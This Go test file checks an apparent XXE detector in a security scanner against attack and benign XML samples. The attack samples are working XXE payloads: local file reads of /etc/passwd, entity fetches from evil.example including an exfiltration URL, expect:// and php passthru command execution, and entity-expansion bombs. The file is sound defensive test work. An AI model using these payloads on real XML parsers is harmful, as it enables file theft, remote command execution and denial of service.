package xxe_test

import (
	"testing"

	"github.com/meshwarden/meshwarden/internal/scan/match/matchtest"
	"github.com/meshwarden/meshwarden/internal/scan/xxe"
)

var family = matchtest.Family{
	Find:     xxe.Find,
	Triggers: xxe.Triggers,
	Attacks: []matchtest.Attack{
		{Rule: "multiplying_entity", Text: `<!DOCTYPE q [<!ENTITY a "a"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>`},
		{Rule: "stylesheet_function", Text: `<xsl:value-of select="document('/etc/passwd')"/>`},
		{Rule: "stylesheet_function", Text: `<xsl:value-of select="php:function('passthru','id')"/>`},
		{Rule: "utf7_declaration", Text: "+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ENTITY q SYSTEM +ACI-file:///x+ACI +AD4AXQA+-"},
		{Rule: "external_entity", Text: `<?xml version="1.0"?><!DOCTYPE q [<!ENTITY z SYSTEM "file:///etc/hosts">]><q>&z;</q>`},
		{Rule: "external_entity", Text: `<!DOCTYPE q [ <!ENTITY % z SYSTEM "http://evil.example/a.dtd"> %z; ]>`},
		{Rule: "external_entity", Text: `<!DOCTYPE q [<!ENTITY z PUBLIC "any" 'http://evil.example/a'>]>`},
		{Rule: "external_entity", Text: "<!doctype q[<!entity z system 'expect://id'>]>"},
		{Rule: "external_document_type", Text: `<!DOCTYPE q SYSTEM "http://evil.example/a.dtd"><q/>`},
		{Rule: "external_document_type", Text: `<!DOCTYPE q PUBLIC "x" "https://evil.example/a.dtd"><q/>`},
		{Rule: "external_document_type", Text: `<!DOCTYPE q SYSTEM "\\evil.example\a"><q/>`},
		{Rule: "nested_entity", Text: `<!ENTITY % z "<!ENTITY &#x25; y SYSTEM 'http://evil.example/?%w;'>">`},
		{Rule: "multiplying_entity", Text: `<!DOCTYPE q [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]><q>&c;</q>`},
		{Rule: "inclusion", Text: `<q xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hosts"/></q>`},
	},
	Benign: []string{
		`<!ENTITY chapter1 SYSTEM "chapter1.xml">`, `<!DOCTYPE rss PUBLIC " - //Netscape Communications//DTD RSS 0.91//EN" "http://p.example/rss-0_91.dtd">`, `x="document('')"`, `select="document('names.xml')"`,
		"<!DOCTYPE html><html></html>", `<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">`,
		`<!DOCTYPE properties SYSTEM "http://java.sun.com/dtd/properties.dtd">`, `<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">`,
		`<!DOCTYPE note SYSTEM "note.dtd"><note/>`, `<!DOCTYPE q [<!ENTITY copy "&#169;">]>`, "Declare it with <!ENTITY name \"value\"> in the DTD.",
		"<a:include/>", "SYSTEM and PUBLIC identifiers follow <!DOCTYPE in XML.", "<!ENTITY", "<!DOCTYPE x SYSTEM", `<x xmlns:xi="http://www.w3.org/2001/XInclude"/>`,
	},
	Worst: []string{"<", "<!ENTITY ", "<!ENTITY % a SYSTEM \"", "<!DOCTYPE a SYSTEM '", "<x:include ", "<!ENTITY a \"&", "<!DOCTYPE "},
}

func TestFamily(t *testing.T) { matchtest.Run(t, family) }

func FuzzFind(f *testing.F) { matchtest.Fuzz(f, family, false) }

func BenchmarkFind(b *testing.B) { matchtest.Bench(b, family) }
